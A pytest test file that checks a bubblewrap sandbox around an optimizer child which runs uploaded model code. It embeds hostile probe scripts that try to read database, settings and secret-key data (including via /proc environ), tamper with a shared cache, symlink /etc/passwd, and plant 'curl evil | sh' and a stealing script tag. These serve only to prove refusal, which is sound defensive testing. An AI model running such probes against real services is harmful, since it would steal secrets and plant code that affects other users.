"""The bubblewrap jail of the optimizer child (issue 11, "a sandbox that holds").

A model file is arbitrary code: its import-time code runs in the optimizer
child.  ``probe.py`` (written from :data:`PROBE` below) tries, at import,
what an attacker tried against the web app: read the database file, the
settings module, another run's folder and the secret key in the
environment; append Python to the shared kernel cache's entries and plant a
new one; reach a server on the host's loopback and a local service's Unix
socket.  It then stops the run with a ProblemError carrying what it saw, so
one short run (it never gets past loading) answers every question.

Each attempt succeeded before the jail (the child ran as the worker with
only its network namespace cut); with bubblewrap each is refused.  Tests
skip, saying why, where bubblewrap cannot make its namespaces.
"""
from __future__ import annotations

import json
import logging
import socket
import threading
from pathlib import Path

import pytest

from lego_core import OptimizeConfig, ProblemSpec, optimize
from lego_core.runtime import jail
from lego_core.search.cache import KernelCache, source_hash
from lego_core.load.spec import ProblemError

pytestmark = pytest.mark.sandbox

REPO = Path(__file__).resolve().parents[2]
SETTINGS_FILE = REPO / "webapp" / "config" / "settings" / "base.py"
SECRET_KEY = "secret-key-that-must-not-leak-0451"
PLANTED = "\nimport os  # planted by another user's upload\n"

PROBE = r'''
import json, os, socket
from lego_core.load.spec import ProblemError

SEEN = {}

def attempt(name, action):
    try:
        SEEN[name] = ["done", str(action())[:300]]
    except BaseException as exc:
        SEEN[name] = ["refused", f"{type(exc).__name__}: {exc}"[:300]]

def append_to_cache():
    for folder, _, files in os.walk(CACHE):
        for name in files:
            with open(os.path.join(folder, name), "a") as fh:
                fh.write(PLANTED)
    return "appended"

def unix_connect():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(3)
    s.connect(UNIX_SOCKET)
    s.close()
    return "connected"

attempt("database", lambda: open(DATABASE).read())
attempt("settings", lambda: open(SETTINGS).read(200))
attempt("other_run", lambda: open(OTHER_RUN).read())
attempt("runs_listing", lambda: os.listdir(os.path.join(MEDIA, "runs")))
attempt("secret_env", lambda: os.environ["DJANGO_SECRET_KEY"])

def environ_of_every_process():
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            data = open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        if b"DJANGO_SECRET_KEY" in data:
            found.append(data.decode(errors="replace"))
    if not found:
        raise LookupError("no process with the secret key in its environment")
    return found

attempt("process_environ", environ_of_every_process)  # bwrap, pid 1 of the jail, had the worker's
attempt("cache_append", append_to_cache)
attempt("cache_plant", lambda: open(os.path.join(CACHE, "ab", "planted.json"), "w").write("{}"))
attempt("tcp_loopback", lambda: socket.create_connection(("127.0.0.1", TCP_PORT), timeout=3).close())
attempt("unix_socket", unix_connect)
raise ProblemError("PROBE " + json.dumps(SEEN))
'''


def _need_jail() -> None:
    why = jail.available()
    if why is not None:
        pytest.skip(f"bubblewrap cannot jail a process on this machine: {why}")


class _Servers:
    """A TCP server on the host's loopback and a Unix socket server (a local
    service: the broker, Redis, PostgreSQL's socket), each counting the
    connections it accepts."""

    def __init__(self, folder: Path):
        self.tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.tcp.bind(("127.0.0.1", 0))
        self.tcp.listen(8)
        self.unix_path = str(folder / "service.sock")
        self.unix = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.unix.bind(self.unix_path)
        self.unix.listen(8)
        self.accepted = {"tcp": 0, "unix": 0}
        self.threads = [threading.Thread(target=self._serve, args=(s, k), daemon=True) for s, k in ((self.tcp, "tcp"), (self.unix, "unix"))]
        for thread in self.threads:
            thread.start()

    def _serve(self, server: socket.socket, kind: str) -> None:
        while True:
            try:
                conn, _ = server.accept()
            except OSError:
                return
            self.accepted[kind] += 1
            conn.close()

    def close(self) -> None:
        self.tcp.close()
        self.unix.close()


@pytest.fixture(scope="module")
def probe(tmp_path_factory):
    """Run probe.py once as an upload would run; returns (what it saw, the layout)."""
    _need_jail()
    root = tmp_path_factory.mktemp("service")
    var = root / "var"
    media = var / "media"
    (media / "uploads").mkdir(parents=True)
    (media / "runs" / "other" / "output").mkdir(parents=True)
    (media / "runs" / "mine").mkdir(parents=True)
    database = var / "db.sqlite3"
    database.write_text("user admin password-hash pbkdf2$secret-row")
    other_run = media / "runs" / "other" / "output" / "report.json"
    other_run.write_text('{"secret": "another user\'s run"}')
    cache_dir = var / "kernel-cache"
    entry = cache_dir / "ab" / ("ab" + "0" * 62 + ".json")
    entry.parent.mkdir(parents=True)
    entry.write_text('{"format": 2}')
    servers = _Servers(root)
    model = media / "uploads" / "probe.py"
    constants = {
        "DATABASE": str(database), "SETTINGS": str(SETTINGS_FILE), "OTHER_RUN": str(other_run), "MEDIA": str(media),
        "CACHE": str(cache_dir), "PLANTED": PLANTED, "TCP_PORT": servers.tcp.getsockname()[1], "UNIX_SOCKET": servers.unix_path,
    }
    model.write_text("".join(f"{name} = {value!r}\n" for name, value in constants.items()) + PROBE)
    mp = pytest.MonkeyPatch()
    mp.setenv("DJANGO_SECRET_KEY", SECRET_KEY)
    mp.delenv("LEGO_SANDBOX", raising=False)
    try:
        with pytest.raises(ProblemError) as info:
            optimize(ProblemSpec(str(model), {}), media / "runs" / "mine" / "output", OptimizeConfig(cache_dir=str(cache_dir)))
    finally:
        mp.undo()
        servers.close()
    message = info.value.message
    assert message.startswith("PROBE "), message
    seen = json.loads(message.removeprefix("PROBE "))
    return {"seen": seen, "entry": entry, "cache_dir": cache_dir, "servers": servers, "database": database}


def _refused(seen: dict, name: str) -> None:
    outcome, detail = seen[name]
    assert outcome == "refused", f"the upload could {name}: {detail}"


def test_an_upload_cannot_read_the_database_file(probe):
    _refused(probe["seen"], "database")
    assert "secret-row" not in json.dumps(probe["seen"])


def test_an_upload_cannot_read_the_settings_module(probe):
    assert SETTINGS_FILE.is_file()
    _refused(probe["seen"], "settings")


def test_an_upload_cannot_read_another_runs_folder_nor_see_it(probe):
    _refused(probe["seen"], "other_run")
    outcome, listing = probe["seen"]["runs_listing"]  # the jail shows only the path down to its own run
    assert outcome == "refused" or "other" not in listing, listing


def test_an_upload_does_not_get_the_secret_key_from_the_environment(probe):
    _refused(probe["seen"], "secret_env")
    assert SECRET_KEY not in json.dumps(probe["seen"])


def test_an_upload_cannot_read_the_secret_key_from_any_process_environment(probe):
    """bwrap stays in the jail's pid namespace as pid 1; it used to carry the
    worker's whole environment, which /proc/1/environ gave the upload."""
    _refused(probe["seen"], "process_environ")
    assert SECRET_KEY not in json.dumps(probe["seen"])


def test_an_upload_cannot_write_the_kernel_cache(probe):
    seen = probe["seen"]
    _refused(seen, "cache_append")
    _refused(seen, "cache_plant")
    assert PLANTED not in probe["entry"].read_text()
    assert not (probe["cache_dir"] / "ab" / "planted.json").exists()


def test_an_upload_gets_no_network_neither_loopback_nor_a_local_services_socket(probe):
    _refused(probe["seen"], "tcp_loopback")
    _refused(probe["seen"], "unix_socket")
    assert probe["servers"].accepted == {"tcp": 0, "unix": 0}


def test_the_jail_shows_only_what_python_and_the_run_need(tmp_path):
    model, stage, scratch = tmp_path / "model.py", tmp_path / "stage", tmp_path / "scratch"
    model.write_text("")
    stage.mkdir()
    scratch.mkdir()
    cmd = jail.for_run(str(model), str(stage), str(scratch), str(tmp_path / "cache")).command(["/bin/true"])
    pairs = {(cmd[i], cmd[i + 2]) for i in range(len(cmd) - 2) if cmd[i].startswith("--") and "bind" in cmd[i]}
    assert ("--ro-bind", str(model)) in pairs
    assert {p for kind, p in pairs if kind == "--bind"} == {str(stage), str(scratch)}  # the only writable folders
    for flag in ("--unshare-net", "--unshare-user", "--unshare-pid", "--clearenv", "--die-with-parent", "--disable-userns"):
        assert flag in cmd
    assert str(REPO) not in {p for _, p in pairs}  # never the project folder (only lego_core inside it)
    assert str(REPO / "webapp") not in {p for _, p in pairs}


def test_the_childs_environment_is_scrubbed(monkeypatch):
    monkeypatch.setenv("DJANGO_SECRET_KEY", SECRET_KEY)
    monkeypatch.setenv("DATABASE_URL", "postgres://user:pw@host/db")
    monkeypatch.setenv("LEGO_API_TOKEN", "token")
    monkeypatch.setenv("TRITON_INTERPRET", "1")
    monkeypatch.setenv("LEGO_JUDGE_CALL_TIMEOUT_S", "30")
    env = jail.child_environment(["/x"])
    assert "DJANGO_SECRET_KEY" not in env and "DATABASE_URL" not in env and "LEGO_API_TOKEN" not in env
    assert env["TRITON_INTERPRET"] == "1" and env["LEGO_JUDGE_CALL_TIMEOUT_S"] == "30" and env["PYTHONPATH"] == "/x"


def test_without_bubblewrap_the_run_falls_back_with_one_warning(monkeypatch, caplog):
    monkeypatch.setattr(jail, "available", lambda: "bwrap is not installed (test)")
    monkeypatch.delenv("LEGO_SANDBOX", raising=False)
    jail._warned.clear()
    with caplog.at_level(logging.WARNING, logger="lego_core.runtime.jail"):
        assert jail.wanted() is False
        assert jail.wanted() is False
    warnings = [r.getMessage() for r in caplog.records if "WITHOUT the bubblewrap sandbox" in r.getMessage()]
    assert len(warnings) == 1 and "bwrap is not installed (test)" in warnings[0]
    monkeypatch.setenv("LEGO_SANDBOX", "require")
    with pytest.raises(RuntimeError, match="LEGO_SANDBOX=require"):
        jail.wanted()


@pytest.mark.slow
def test_a_good_run_completes_in_the_jail_and_the_parent_writes_the_cache(tmp_path, monkeypatch):
    """A tiny model optimizes end to end through the jail; the cache entries
    are written by the parent (with their source hash) and a second run
    takes them from the read-only cache."""
    _need_jail()
    monkeypatch.delenv("LEGO_SANDBOX", raising=False)
    model = tmp_path / "tiny.py"
    model.write_text(
        "import torch\nimport torch.nn as nn\n\n"
        "class Model(nn.Module):\n"
        "    def forward(self, x):\n"
        "        return torch.relu(x) * 2.0 + 1.0\n\n"
        "def get_inputs():\n    return [torch.randn(4, 32)]\n\n"
        "def get_init_inputs():\n    return []\n"
    )
    cache_dir = tmp_path / "cache"
    config = OptimizeConfig(cache_dir=str(cache_dir), verify_seeds=(1, 2, 3), e2e_seed=4)
    events = []
    report = optimize(ProblemSpec(str(model), {}), tmp_path / "out", config, sink=events.append)
    assert report["summary"]["e2e_passed"] is True
    assert (tmp_path / "out" / "optimized_model.py").is_file()
    assert [e.type for e in events][-1] == "run_finished"
    files = sorted(cache_dir.glob("??/*.json"))
    assert files, "the parent wrote no cache entry"
    stored = [json.loads(f.read_text()) for f in files]
    assert all(s["source_sha256"] == source_hash(s["entry"]["source"]) for s in stored)
    assert not list(tmp_path.glob(".out.lego-*")), "a staging folder was left behind"

    again = optimize(ProblemSpec(str(model), {}), tmp_path / "out2", config)
    assert again["summary"]["e2e_passed"] is True
    assert KernelCache(cache_dir).get(files[0].stem) is not None
    assert again["metrics"]["cache_hits"] >= 1


@pytest.mark.parametrize("plant", ["symlink", "hardlink", "fifo"])
def test_the_parent_commits_no_staged_link_or_special_file(tmp_path, plant):
    """The child stages the output; the parent commits it only when it holds
    regular files and folders (a link to the database would reach the zip)."""
    import os

    from lego_core.runtime import output

    secret = tmp_path / "db.sqlite3"
    secret.write_text("every user's password hash")
    stage = tmp_path / ".out.lego-1234"
    (stage / "kernels").mkdir(parents=True)
    (stage / "report.json").write_text("{}")
    planted = stage / "kernels" / "k.py"
    {"symlink": lambda: planted.symlink_to(secret), "hardlink": lambda: os.link(secret, planted), "fifo": lambda: os.mkfifo(planted)}[plant]()
    with pytest.raises(ProblemError, match="which LEGO never writes"):
        output.check_staged(stage)
    (planted.unlink())
    planted.write_text("# a kernel")
    output.check_staged(stage)  # regular files only: fine


LOCK_PROBE = r'''
import errno, fcntl, json, os, sys
from lego_core.runtime import gpu_lock

lock = sys.argv[1]
seen = {}
for name, attempt in {
    "remove": lambda: os.unlink(lock),
    "replace": lambda: os.replace(lock + ".turnstile", lock),
    "plant": lambda: os.symlink("/etc/passwd", lock + ".planted"),
    "create": lambda: open(os.path.join(os.path.dirname(lock), "new.lock"), "w"),
}.items():
    try:
        attempt()
        seen[name] = "done"
    except OSError as exc:
        seen[name] = errno.errorcode.get(exc.errno, str(exc.errno))
fd = gpu_lock._open(lock)  # read-only here: flock needs no write access
try:
    fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
    seen["while_held_outside"] = "taken"
except BlockingIOError:
    seen["while_held_outside"] = "waits"
print(json.dumps(seen), flush=True)
sys.stdin.readline()  # the test releases its hold, then asks again
with gpu_lock.exclusive(path=lock):
    seen["after_release"] = "taken"
print(json.dumps(seen), flush=True)
'''


def _gpu_machine(monkeypatch, tmp_path):
    """for_run as on a machine with a GPU: a lock folder, and a probe that makes its lock files."""
    from lego_core.runtime import gpu_lock, gpu_probe

    locks = tmp_path / "gpu-locks"
    monkeypatch.setenv(gpu_lock.LOCK_DIR_ENV, str(locks))
    made = []

    def fake_probe():
        for name in ("GPU-test.lock", "GPU-test.lock.turnstile"):
            gpu_lock.create_lock_file(str(locks / name))
            made.append(str(locks / name))
        return {"name": "Test GPU", "locks": made}

    monkeypatch.setattr(gpu_probe, "probe", fake_probe)
    model, stage, scratch = tmp_path / "model.py", tmp_path / "stage", tmp_path / "scratch"
    model.write_text("")
    stage.mkdir()
    scratch.mkdir()
    with monkeypatch.context() as m:
        m.setattr(jail, "_gpu_devices", lambda: ["/dev/nvidia0"])
        run_jail = jail.for_run(str(model), str(stage), str(scratch), None)
    return run_jail, locks


def test_the_gpu_lock_folder_is_read_only_in_the_jail_with_its_files_made_by_the_parent(tmp_path, monkeypatch):
    run_jail, locks = _gpu_machine(monkeypatch, tmp_path)
    assert str(locks.resolve()) in run_jail.read_only
    assert str(locks.resolve()) not in run_jail.writable
    assert sorted(p.name for p in locks.iterdir()) == ["GPU-test.lock", "GPU-test.lock.turnstile"]
    assert all(p.stat().st_mode & 0o666 == 0o666 for p in locks.iterdir())  # other users' runs share the card


def test_a_jailed_run_takes_the_gpu_lock_but_cannot_touch_its_files(tmp_path, monkeypatch):
    """flock(2) works on a file opened read-only, so the jail needs no write
    access to the lock folder: the lock still keeps a jailed run and one
    outside apart, and the jailed run cannot remove, replace or plant files."""
    import fcntl
    import os
    import subprocess
    import sys

    _need_jail()
    run_jail, locks = _gpu_machine(monkeypatch, tmp_path)
    lock = str(locks / "GPU-test.lock")
    outside = os.open(lock, os.O_RDWR)
    fcntl.flock(outside, fcntl.LOCK_EX)
    child = subprocess.Popen(run_jail.command([sys.executable, "-c", LOCK_PROBE, lock]), stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        first = json.loads(child.stdout.readline())
        fcntl.flock(outside, fcntl.LOCK_UN)
        child.stdin.write("go\n")
        child.stdin.flush()
        second = json.loads(child.stdout.readline())
    finally:
        os.close(outside)
        child.kill()
        child.wait()
    assert {first[k] for k in ("remove", "replace", "plant", "create")} == {"EROFS"}, first
    assert first["while_held_outside"] == "waits"
    assert second["after_release"] == "taken"
    assert sorted(p.name for p in locks.iterdir()) == ["GPU-test.lock", "GPU-test.lock.turnstile"]


@pytest.mark.slow
def test_a_run_whose_upload_plants_a_file_in_its_staging_folder_commits_nothing(tmp_path, monkeypatch):
    """The upload finds its staging folder (a writable mount of the jail) and
    plants a script and a report.html there at import; the run otherwise
    passes.  The parent commits only the names LEGO writes: the run fails
    naming the planted file, and the output folder is never made."""
    _need_jail()
    monkeypatch.delenv("LEGO_SANDBOX", raising=False)
    model = tmp_path / "planter.py"
    model.write_text(
        "import os\nimport torch\nimport torch.nn as nn\n\n"
        "MARK = os.path.expanduser('~/planted')  # once: later imports (the end-to-end check's) write nothing\n"
        "for line in [] if os.path.exists(MARK) else open('/proc/self/mountinfo'):\n"
        "    point = line.split()[4]\n"
        "    if '.lego-' in point:\n"
        "        open(MARK, 'w').close()\n"
        "        open(point + '/run.sh', 'w').write('curl evil | sh\\n')\n"
        "        open(point + '/report.html', 'w').write('<script>steal()</script>')\n\n"
        "class Model(nn.Module):\n"
        "    def forward(self, x):\n"
        "        return torch.relu(x) + 1.0\n\n"
        "def get_inputs():\n    return [torch.randn(4, 32)]\n\n"
        "def get_init_inputs():\n    return []\n"
    )
    config = OptimizeConfig(cache=False, verify_seeds=(1, 2, 3), e2e_seed=4)
    with pytest.raises(ProblemError, match="(run.sh|report.html)(, report.html)?, which LEGO never writes"):
        optimize(ProblemSpec(str(model), {}), tmp_path / "out", config)
    assert not (tmp_path / "out").exists()
    assert not list(tmp_path.glob(".out.lego-*")), "a staging folder was left behind"
